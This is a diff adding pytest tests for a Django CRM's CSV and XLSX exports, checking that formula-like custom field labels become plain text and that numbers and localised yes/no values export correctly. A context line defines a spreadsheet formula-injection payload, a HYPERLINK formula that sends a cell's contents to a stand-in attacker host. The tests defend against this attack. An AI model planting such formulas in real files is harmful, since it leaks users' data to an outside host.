@@ -4,6 +4,7 @@ import csv
 import io
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 
 from custos.accounts.models import Role
@@ -12,6 +13,7 @@ from custos.core.errors import PermissionDenied, ValidationFailed
 from custos.core.tenancy import tenant_scope
 from custos.crm.exports import export_records, neutralise
 from custos.crm.models import Contact
+from custos.crm.services.custom_fields import custom_field_create
 from custos.crm.services.people import contact_create
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -100,6 +102,54 @@ def test_an_xlsx_export_writes_text_never_formulas(cast, contacts):
     sheet = load_workbook(io.BytesIO(b"".join(export.chunks))).active
     hostile = sheet.cell(row=3, column=1)
     assert hostile.value == HOSTILE and hostile.data_type == "s"
+
+
+@pytest.fixture
+def custom_values(cast):
+    """A field whose label is a formula, and a number, an amount and a yes/no of one contact."""
+    admin = cast.actor(cast.olive)
+    with tenant_scope(cast.org_a):
+        for key, label, kind in [
+            ("balance", "=1+1", "number"),
+            ("budget", "Budget", "money"),
+            ("member", "Member", "yes_no"),
+        ]:
+            data = {"object_type": "contact", "key": key, "label": label, "kind": kind, "category": "none"}
+            custom_field_create(actor=admin, data=data)
+        contact_create(
+            actor=admin,
+            data={"last_name": "Lind", "custom_fields": {"balance": -5, "budget": "1250.5", "member": True}},
+        )
+
+
+def test_a_custom_fields_label_is_a_header_never_a_formula(cast, custom_values):
+    """Found by the bug hunt: the header of a column came from the label as it was, a live
+    formula in an XLSX file and not neutralised in a CSV one."""
+    actor = cast.actor(cast.alice)
+    with tenant_scope(cast.org_a):
+        csv_export = export_records(actor, "contact", Contact.objects.all(), file_format="csv")
+        xlsx_export = export_records(actor, "contact", Contact.objects.all(), file_format="xlsx")
+    header = _csv_rows(csv_export)[0]
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx_export.chunks))).active
+    cell = sheet.cell(row=1, column=header.index("'=1+1") + 1)
+    assert "=1+1" not in header
+    assert (cell.value, cell.data_type) == ("=1+1", "s")
+
+
+def test_custom_numbers_are_numbers_and_yes_or_no_is_in_the_language_of_the_export(cast, custom_values):
+    """A number is no formula: -5 is written as it is (not "'-5"), and an amount is a number
+    in XLSX, not text; yes or no is said in the exporting user's language."""
+    actor = cast.actor(cast.alice)
+    with tenant_scope(cast.org_a), translation.override("de"):
+        header, row = _csv_rows(export_records(actor, "contact", Contact.objects.all(), file_format="csv"))
+        xlsx_export = export_records(actor, "contact", Contact.objects.all(), file_format="xlsx")
+    shown = dict(zip(header, row, strict=True))
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx_export.chunks))).active
+    cells = {sheet.cell(row=1, column=n).value: sheet.cell(row=2, column=n) for n in range(1, sheet.max_column + 1)}
+    assert (shown["'=1+1"], shown["Budget"], shown["Member"]) == ("-5", "1250.50", "Ja")
+    assert (cells["=1+1"].value, cells["=1+1"].data_type) == (-5, "n")
+    assert (cells["Budget"].value, cells["Budget"].data_type) == (1250.5, "n")
+    assert cells["Member"].value == "Ja"
 
 
 def test_hidden_fields_are_not_exported(cast, contacts):
